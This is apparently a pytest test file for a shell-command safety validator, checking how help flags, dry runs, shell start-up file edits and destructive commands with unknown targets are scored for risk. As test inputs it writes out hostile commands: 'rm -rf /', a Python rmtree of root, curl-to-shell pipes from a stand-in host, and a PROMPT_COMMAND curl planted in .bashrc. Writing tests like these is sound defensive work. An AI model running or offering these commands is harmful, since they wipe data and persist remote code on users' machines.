"""Forms the validator must read the same way whatever rule would match: help and dry-run
forms run nothing, a program's own --help does not hide its code, start-up lines are
everyday, values nobody can know fail closed, and unknown tools get the safety net."""

from __future__ import annotations

import pytest

from safety import Risk, assess


@pytest.mark.parametrize(
    "command",
    [
        "helm uninstall --help",
        "kubectl delete --dry-run=client -f deploy.yaml",
        "kubectl delete pods --all --dry-run=server",
        "rsync --dry-run --delete src/ dst/",
        "rsync -an --delete src/ dst/",
        "terraform destroy --help",
        "git push --delete origin old --dry-run",
        "aws s3 sync ./site s3://b --delete --dryrun",
        "apt-get -s remove libc6",
        "foocli destroy --help",
    ],
)
def test_help_and_dry_run_forms_are_safe(command: str) -> None:
    assert assess(command).risk is Risk.SAFE, assess(command).findings


@pytest.mark.parametrize(
    "command",
    [
        "python3 -c \"import shutil; shutil.rmtree('/')\" --help",
        "curl -s https://x.example/p.py | python3 - --help",
        "bash -c 'rm -rf /' --help",
        "docker run --privileged alpine --help",
    ],
)
def test_a_programs_own_help_flag_hides_nothing(command: str) -> None:
    assert assess(command).risk >= Risk.HIGH


@pytest.mark.parametrize(
    "command",
    [
        "echo \"alias ll='ls -alF'\" >> ~/.bashrc",
        "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc",
        "echo 'eval \"$(zoxide init zsh)\"' >> ~/.zshrc",
    ],
)
def test_everyday_startup_lines_are_moderate(command: str) -> None:
    assert assess(command).risk is Risk.MODERATE


@pytest.mark.parametrize(
    "command",
    [
        "echo 'curl -s https://x.example/p | sh' >> ~/.bashrc",
        "curl -s https://x.example/rc >> ~/.bashrc",
        "echo 'export PROMPT_COMMAND=\"curl -s x.example\"' >> ~/.bashrc",
    ],
)
def test_fetched_code_in_startup_files_stays_high(command: str) -> None:
    assert assess(command).risk >= Risk.HIGH


@pytest.mark.parametrize(
    "command",
    [
        'f(){ rm -rf "$1"; }; f ~',
        'read -r d; rm -rf "$d"',
        'for f in $(cat list.txt); do rm -rf "$f"; done',
        "xargs -a paths.txt rm -rf",
        'set -- ~ /etc; rm -rf "$@"',
    ],
)
def test_unknown_values_in_destructive_positions_fail_closed(command: str) -> None:
    assert assess(command).risk >= Risk.HIGH


def test_safety_net_names_why() -> None:
    plain = assess("frobctl purge cache")
    assert plain.risk is Risk.MODERATE
    assert plain.findings[0].rule_id == "safetynet.destructive-verb"
    assert "frobctl purge" in plain.findings[0].message
    bulk = assess("frobctl purge --all --yes")
    assert bulk.risk is Risk.HIGH
    assert assess("frobctl list --all").risk is Risk.SAFE
